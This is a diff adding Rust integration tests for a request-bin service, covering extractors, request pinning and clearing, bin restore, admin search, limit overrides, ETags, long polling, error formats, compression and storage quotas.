+        let matching: Vec<LoggedRequest> = matching.json();
+        assert_eq!(matching[0].request_id, requests[0].request_id);
+        let with_field: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect?field=amount", bin_id)).await.json();
+        assert_eq!(with_field.len(), 2);
+        server
+            .get(&format!("/bin/{}/inspect?value=ord_1", bin_id))
+            .await
+            .assert_status(StatusCode::BAD_REQUEST);
+
+        // Removing the extractors keeps what was already extracted
+        server.put(&path).json(&serde_json::json!([])).await.assert_status_ok();
+        let with_field: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect?field=amount", bin_id)).await.json();
+        assert_eq!(with_field.len(), 2);
+    }
+
+    // Extracted values go with their request
+    let pool = SqlitePoolOptions::new().connect(":memory:").await.unwrap();
+    rustbin::storage::sqlite::MIGRATOR.run(&pool).await.unwrap();
+    let server = test_server(AppState::from_pool(pool.clone(), &RustbinConfig::default()));
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    server
+        .put(&format!("/bin/{}/extractors", bin_id))
+        .json(&serde_json::json!([{ "name": "id", "path": "$.id" }]))
+        .await
+        .assert_status_ok();
+    server.post(&format!("/bin/{}", bin_id)).json(&serde_json::json!({ "id": 1 })).await.assert_status_ok();
+    let count = || sqlx::query_scalar::<_, i64>("SELECT COUNT(*) FROM request_fields").fetch_one(&pool);
+    assert_eq!(count().await.unwrap(), 1);
+    server.delete(&format!("/bin/{}/clear", bin_id)).await.assert_status_ok();
+    assert_eq!(count().await.unwrap(), 0);
+}
+
+#[tokio::test]
+async fn test_web_ui() {
+    let server = setup_test_app().await;
+
+    for page in ["/", "/ui/bin/some-bin"] {
+        let response = server.get(page).await;
+        response.assert_status_ok();
+        assert!(response.header("content-type").to_str().unwrap().starts_with("text/html"));
+        assert!(response.text().contains("/ui/assets/app.js"));
+    }
+
+    let script = server.get("/ui/assets/app.js").await;
+    script.assert_status_ok();
+    assert!(script.header("content-type").to_str().unwrap().contains("javascript"));
+    let etag = script.header("etag");
+    server
+        .get("/ui/assets/app.js")
+        .add_header("if-none-match", etag.to_str().unwrap())
+        .await
+        .assert_status(StatusCode::NOT_MODIFIED);
+
+    server.get("/ui/assets/missing.js").await.assert_status_not_found();
+}
+
+#[tokio::test]
+async fn test_clear_old_requests() {
+    for server in [setup_test_app().await, setup_memory_app().await] {
+        let bin: BinResponse = server.post("/create").await.json();
+        let bin_path = format!("/bin/{}", bin.bin_id);
+        let old: String = (1..=4)
+            .map(|day| format!("{{\"method\":\"POST\",\"headers\":\"[]\",\"body\":\"old {}\",\"timestamp\":\"2024-01-0{}T00:00:00+00:00\"}}\n", day, day))
+            .collect();
+        server.post(&format!("{}/import", bin_path)).text(old).await.assert_status_ok();
+        for body in ["new 1", "new 2", "new 3"] {
+            server.post(&bin_path).text(body).await.assert_status_ok();
+        }
+        let requests: Vec<LoggedRequest> = server.get(&format!("{}/inspect", bin_path)).await.json();
+        server.post(&format!("{}/request/{}/pin", bin_path, requests[0].request_id)).await.assert_status_ok();
+        let bodies = || async {
+            let requests: Vec<LoggedRequest> = server.get(&format!("{}/inspect", bin_path)).await.json();
+            requests.into_iter().map(|r| r.body.unwrap()).collect::<Vec<_>>()
+        };
+
+        for query in ["older_than=soon", "older_than=5y", "older_than=-1h", "keep_last=-1"] {
+            server.delete(&format!("{}/clear?{}", bin_path, query)).await.assert_status(StatusCode::BAD_REQUEST);
+        }
+
+        // Old enough and not among the newest six: only "old 2", as "old 1" is pinned
+        let response = server.delete(&format!("{}/clear?older_than=24h&keep_last=6", bin_path)).await;
+        response.assert_status_ok();
+        assert_eq!(response.text(), "Cleared 1 requests from bin");
+        assert_eq!(bodies().await, ["old 1", "old 3", "old 4", "new 1", "new 2", "new 3"]);
+
+        server.delete(&format!("{}/clear?older_than=1d", bin_path)).await.assert_status_ok();
+        assert_eq!(bodies().await, ["old 1", "new 1", "new 2", "new 3"]);
+
+        server.delete(&format!("{}/clear?keep_last=2", bin_path)).await.assert_status_ok();
+        assert_eq!(bodies().await, ["old 1", "new 3"]);
+
+        server.delete(&format!("{}/clear", bin_path)).await.assert_status_ok();
+        assert!(bodies().await.is_empty());
+    }
+}
+
+#[tokio::test]
+async fn test_pinned_requests_survive_trimming_and_expiry() {
+    let mut config = RustbinConfig::default();
+    config.limits.max_requests_per_bin = 3;
+    let pool = SqlitePoolOptions::new().connect(":memory:").await.unwrap();
+    rustbin::storage::sqlite::MIGRATOR.run(&pool).await.unwrap();
+    let states = [
+        AppState::from_pool(pool, &config),
+        AppState::with_storage(Arc::new(MemoryStorage::new()), &config),
+    ];
+
+    for state in states {
+        let server = test_server(state.clone());
+        let bin: BinResponse = server.post("/create").await.json();
+        for i in 0..3 {
+            server.post(&format!("/bin/{}", bin.bin_id)).text(format!("request {}", i)).await.assert_status_ok();
+        }
+        let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+        let pin = format!("/bin/{}/request/{}/pin", bin.bin_id, requests[0].request_id);
+        server.post(&pin).await.assert_status_ok();
+
+        for i in 3..6 {
+            server.post(&format!("/bin/{}", bin.bin_id)).text(format!("request {}", i)).await.assert_status_ok();
+        }
+        let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+        let kept: Vec<_> = requests.iter().map(|r| (r.body.as_deref().unwrap(), r.pinned)).collect();
+        assert_eq!(kept, [("request 0", true), ("request 4", false), ("request 5", false)]);
+
+        // Bins holding pinned requests are never reported as expired
+        let later = (chrono::Utc::now() + chrono::Duration::hours(1)).to_rfc3339();
+        assert!(state.storage.inactive_bins(&later, None).await.unwrap().is_empty());
+        server.delete(&pin).await.assert_status_ok();
+        assert_eq!(state.storage.inactive_bins(&later, None).await.unwrap().len(), 1);
+
+        let unknown = format!("/bin/{}/request/{}/pin", bin.bin_id, Uuid::new_v4());
+        server.post(&unknown).await.assert_status_not_found();
+    }
+}
+
+#[tokio::test]
+async fn test_deleted_bins_can_be_restored() {
+    for server in [setup_test_app().await, setup_memory_app().await] {
+        let bin: BinResponse = server.post("/create").json(&serde_json::json!({ "private": true })).await.json();
+        let token = bin.token.unwrap();
+        let auth = format!("Bearer {}", token);
+        server.post(&format!("/bin/{}", bin.bin_id)).text("kept").await.assert_status_ok();
+
+        server.delete(&format!("/delete/{}", bin.bin_id)).add_header("authorization", &auth).await.assert_status_ok();
+        server.post(&format!("/bin/{}", bin.bin_id)).text("dropped").await.assert_status_not_found();
+        server
+            .get(&format!("/bin/{}/inspect", bin.bin_id))
+            .add_header("authorization", &auth)
+            .await
+            .assert_status_not_found();
+
+        // Only with the bin's token
+        server.post(&format!("/bin/{}/restore", bin.bin_id)).await.assert_status(StatusCode::UNAUTHORIZED);
+        server.post(&format!("/bin/{}/restore", bin.bin_id)).add_header("authorization", &auth).await.assert_status_ok();
+        server.post(&format!("/bin/{}/restore", bin.bin_id)).add_header("authorization", &auth).await.assert_status_not_found();
+
+        let requests: Vec<LoggedRequest> = server
+            .get(&format!("/bin/{}/inspect", bin.bin_id))
+            .add_header("authorization", &auth)
+            .await
+            .json();
+        assert_eq!(requests.len(), 1);
+        assert_eq!(requests[0].body.as_deref(), Some("kept"));
+    }
+
+    let mut config = RustbinConfig::default();
+    config.cleanup.deleted_bin_retention_hours = 0;
+    let server = setup_test_app_with_config(config).await;
+    let bin: BinResponse = server.post("/create").await.json();
+    server.delete(&format!("/delete/{}", bin.bin_id)).await.assert_status_ok();
+    server.post(&format!("/bin/{}/restore", bin.bin_id)).await.assert_status_not_found();
+}
+
+#[tokio::test]
+async fn test_deleted_bins_are_left_out_of_admin_search_and_stats() {
+    let mut config = RustbinConfig::default();
+    config.admin.token = Some("admin-secret".to_string());
+    let pool = SqlitePoolOptions::new().max_connections(1).connect(":memory:").await.unwrap();
+    rustbin::storage::sqlite::MIGRATOR.run(&pool).await.unwrap();
+    let states = [AppState::from_pool(pool, &config), AppState::with_storage(Arc::new(MemoryStorage::new()), &config)];
+    for state in states {
+        let server = test_server(state);
+        let bin: BinResponse = server.post("/create").await.json();
+        server.post(&format!("/bin/{}", bin.bin_id)).text("ord_42").await.assert_status_ok();
+        let search = || server.get("/admin/search?q=ord_42").add_header("authorization", "Bearer admin-secret");
+        let stats = || server.get("/admin/stats").add_header("authorization", "Bearer admin-secret");
+        assert_eq!(search().await.json::<Vec<AdminSearchResult>>().len(), 1);
+
+        server.delete(&format!("/delete/{}", bin.bin_id)).await.assert_status_ok();
+        assert!(search().await.json::<Vec<AdminSearchResult>>().is_empty());
+        let counted: AdminStats = stats().await.json();
+        assert_eq!((counted.bin_count, counted.request_count, counted.requests_last_24h), (0, 0, 0));
+
+        server.post(&format!("/bin/{}/restore", bin.bin_id)).await.assert_status_ok();
+        assert_eq!(search().await.json::<Vec<AdminSearchResult>>().len(), 1);
+        let counted: AdminStats = stats().await.json();
+        assert_eq!((counted.bin_count, counted.request_count, counted.requests_last_24h), (1, 1, 1));
+    }
+}
+
+#[tokio::test]
+async fn test_bin_limit_overrides() {
+    for server in [setup_test_app().await, setup_memory_app().await] {
+        let bin: BinResponse = server.post("/create").await.json();
+        let limits = format!("/bin/{}/limits", bin.bin_id);
+        server.get(&limits).await.assert_status_not_found();
+
+        // Bounded by `[limits] bin_max_*`
+        for body in [
+            serde_json::json!({ "max_requests": 0 }),
+            serde_json::json!({ "max_requests": 1001 }),
+            serde_json::json!({ "max_body_size": 10 * 1024 * 1024 + 1 }),
+            serde_json::json!({ "expiry_hours": 169 }),
+        ] {
+            server.put(&limits).json(&body).await.assert_status_bad_request();
+        }
+
+        let overrides = serde_json::json!({ "max_requests": 2, "max_body_size": 8 });
+        server.put(&limits).json(&overrides).await.assert_status_ok();
+        assert_eq!(server.get(&limits).await.json::<serde_json::Value>(), overrides);
+
+        server.post(&format!("/bin/{}", bin.bin_id)).text("too large").await.assert_status(StatusCode::PAYLOAD_TOO_LARGE);
+        for i in 0..3 {
+            server.post(&format!("/bin/{}", bin.bin_id)).text(format!("body {}", i)).await.assert_status_ok();
+        }
+        let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+        let bodies: Vec<_> = requests.iter().map(|r| r.body.as_deref().unwrap()).collect();
+        assert_eq!(bodies, ["body 1", "body 2"]);
+
+        server.delete(&limits).await.assert_status_ok();
+        server.get(&limits).await.assert_status_not_found();
+        server.post(&format!("/bin/{}", bin.bin_id)).text("too large").await.assert_status_ok();
+    }
+}
+
+#[tokio::test]
+async fn test_inspect_etag() {
+    for server in [setup_test_app().await, setup_memory_app().await] {
+        let bin: BinResponse = server.post("/create").await.json();
+        let inspect = format!("/bin/{}/inspect", bin.bin_id);
+        let captured: CaptureResponse = server.post(&format!("/bin/{}", bin.bin_id)).text("first").await.json();
+
+        let response = server.get(&inspect).await;
+        response.assert_status_ok();
+        let etag = response.header("etag");
+        assert!(etag.to_str().unwrap().starts_with("W/\""));
+        assert!(response.maybe_header("last-modified").is_some());
+
+        let response = server.get(&inspect).add_header("if-none-match", etag.to_str().unwrap()).await;
+        response.assert_status(StatusCode::NOT_MODIFIED);
+        assert!(response.text().is_empty());
+
+        // Pinning changes what inspect returns, so it changes the ETag too
+        let pin = format!("/bin/{}/request/{}/pin", bin.bin_id, captured.request_id);
+        server.post(&pin).await.assert_status_ok();
+        let response = server.get(&inspect).add_header("if-none-match", etag.to_str().unwrap()).await;
+        response.assert_status_ok();
+        let etag = response.header("etag");
+
+        server.post(&format!("/bin/{}", bin.bin_id)).text("second").await.assert_status_ok();
+        let response = server.get(&inspect).add_header("if-none-match", etag.to_str().unwrap()).await;
+        response.assert_status_ok();
+        assert_eq!(response.json::<Vec<LoggedRequest>>().len(), 2);
+    }
+}
+
+#[tokio::test]
+async fn test_long_poll() {
+    for server in [setup_test_app().await, setup_memory_app().await] {
+        let bin: BinResponse = server.post("/create").await.json();
+        let capture = format!("/bin/{}", bin.bin_id);
+        let first: CaptureResponse = server.post(&capture).text("first").await.json();
+        let poll = format!("/bin/{}/poll?after={}", bin.bin_id, first.request_id);
+
+        let response = server.get(&format!("{}&timeout=1", poll)).await;
+        response.assert_status_ok();
+        assert!(response.json::<Vec<LoggedRequest>>().is_empty());
+
+        // Answered by the capture arriving while it waits
+        let send_later = async {
+            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+            server.post(&capture).text("second").await.assert_status_ok();
+        };
+        let (response, ()) = tokio::join!(server.get(&poll).into_future(), send_later);
+        let requests: Vec<LoggedRequest> = response.json();
+        assert_eq!(requests.iter().map(|r| r.body.as_deref().unwrap()).collect::<Vec<_>>(), ["second"]);
+
+        // Already there: answered at once
+        server.post(&capture).text("third").await.assert_status_ok();
+        let requests: Vec<LoggedRequest> = server.get(&poll).await.json();
+        assert_eq!(requests.iter().map(|r| r.body.as_deref().unwrap()).collect::<Vec<_>>(), ["second", "third"]);
+
+        server
+            .get(&format!("/bin/{}/poll?after={}", bin.bin_id, Uuid::new_v4()))
+            .await
+            .assert_status_bad_request();
+    }
+}
+
+#[tokio::test]
+async fn test_request_deletion_is_scoped_to_its_bin() {
+    for server in [setup_test_app().await, setup_memory_app().await] {
+        let owner: BinResponse = server.post("/create").await.json();
+        let other: BinResponse = server.post("/create").await.json();
+        let first: CaptureResponse = server.post(&format!("/bin/{}", owner.bin_id)).text("first").await.json();
+        let second: CaptureResponse = server.post(&format!("/bin/{}", owner.bin_id)).text("second").await.json();
+
+        server
+            .delete(&format!("/bin/{}/request/{}", other.bin_id, first.request_id))
+            .await
+            .assert_status_not_found();
+        server
+            .delete(&format!("/bin/{}/request/{}", owner.bin_id, first.request_id))
+            .await
+            .assert_status_ok();
+        server
+            .delete(&format!("/bin/{}/request/{}", owner.bin_id, first.request_id))
+            .await
+            .assert_status_not_found();
+
+        // The unscoped route still works, but points at its replacement
+        let response = server.delete(&format!("/request/{}", second.request_id)).await;
+        response.assert_status_ok();
+        assert_eq!(response.header("deprecation"), "true");
+        let successor = format!("</bin/{}/request/{}>; rel=\"successor-version\"", owner.bin_id, second.request_id);
+        assert_eq!(response.header("link"), successor.as_str());
+        let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", owner.bin_id)).await.json();
+        assert!(requests.is_empty());
+    }
+}
+
+#[tokio::test]
+async fn test_errors_are_problem_documents() {
+    let server = setup_test_app().await;
+
+    let response = server.get("/bin/not-a-uuid/inspect").await;
+    response.assert_status_bad_request();
+    assert_eq!(response.header("content-type"), "application/problem+json");
+    let problem: ProblemDetails = response.json();
+    assert_eq!(problem.problem_type, "about:blank");
+    assert_eq!(problem.title, "Bad Request");
+    assert_eq!(problem.status, 400);
+    assert_eq!(problem.code, "invalid_id");
+
+    let problem: ProblemDetails = server.get(&format!("/bin/{}/inspect", Uuid::new_v4())).await.json();
+    assert_eq!((problem.status, problem.code.as_str(), problem.detail.as_str()), (404, "bin_not_found", "Bin not found"));
+
+    let bin: BinResponse = server.post("/create").await.json();
+    let response = server.delete(&format!("/bin/{}/request/{}", bin.bin_id, Uuid::new_v4())).await;
+    response.assert_status_not_found();
+    assert_eq!(response.json::<ProblemDetails>().code, "request_not_found");
+}
+
+#[tokio::test]
+async fn test_api_responses_are_compressed_but_captures_are_not() {
+    let server = setup_test_app().await;
+    let bin: BinResponse = server.post("/create").await.json();
+    let body = serde_json::json!({ "items": vec!["a fairly repetitive line item"; 50] }).to_string();
+
+    let capture = server
+        .post(&format!("/bin/{}", bin.bin_id))
+        .add_header("accept-encoding", "gzip")
+        .text(body)
+        .await;
+    capture.assert_status_ok();
+    assert!(capture.maybe_header("content-encoding").is_none());
+
+    let inspect = server
+        .get(&format!("/bin/{}/inspect", bin.bin_id))
+        .add_header("accept-encoding", "gzip")
+        .await;
+    inspect.assert_status_ok();
+    assert_eq!(inspect.header("content-encoding"), "gzip");
+    let mut json = String::new();
+    flate2::read::GzDecoder::new(inspect.as_bytes().as_ref()).read_to_string(&mut json).unwrap();
+    assert_eq!(serde_json::from_str::<Vec<LoggedRequest>>(&json).unwrap().len(), 1);
+}
+
+#[tokio::test]
+async fn test_oversized_bodies_are_rejected_before_reaching_the_bin() {
+    let mut config = RustbinConfig::default();
+    config.limits.max_body_size = 16;
+    config.limits.bin_max_body_size = 32;
+    let server = setup_test_app_with_config(config).await;
+    let bin: BinResponse = server.post("/create").await.json();
+
+    // Within the ceiling a bin could raise its limit to, so the handler answers
+    let response = server.post(&format!("/bin/{}", bin.bin_id)).text("x".repeat(24)).await;
+    response.assert_status(StatusCode::PAYLOAD_TOO_LARGE);
+    // Past it, the body is turned away from its Content-Length alone
+    let response = server.post(&format!("/bin/{}", bin.bin_id)).text("x".repeat(64)).await;
+    response.assert_status(StatusCode::PAYLOAD_TOO_LARGE);
+    assert_eq!(response.json::<ProblemDetails>().code, "payload_too_large");
+
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+    assert!(requests.is_empty());
+}
+
+#[tokio::test]
+async fn test_captures_are_refused_while_storage_is_full() {
+    let state = AppState::with_storage(Arc::new(MemoryStorage::new()), &RustbinConfig::default());
+    let server = test_server(state.clone());
+    let bin: BinResponse = server.post("/create").await.json();
+    server.post(&format!("/bin/{}", bin.bin_id)).text("first").await.assert_status_ok();
+
+    state.storage_quota.set_full(true);
+    let response = server.post(&format!("/bin/{}", bin.bin_id)).text("second").await;
+    response.assert_status(StatusCode::INSUFFICIENT_STORAGE);
+    assert_eq!(response.json::<ProblemDetails>().code, "storage_full");
+
+    state.storage_quota.set_full(false);
+    server.post(&format!("/bin/{}", bin.bin_id)).text("third").await.assert_status_ok();
+    let evicted = state.storage.evict_oldest_requests(1).await.unwrap();
+    assert_eq!(evicted.len(), 1);
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin.bin_id)).await.json();
+    assert_eq!(requests.iter().map(|r| r.body.as_deref().unwrap()).collect::<Vec<_>>(), ["third"]);
+}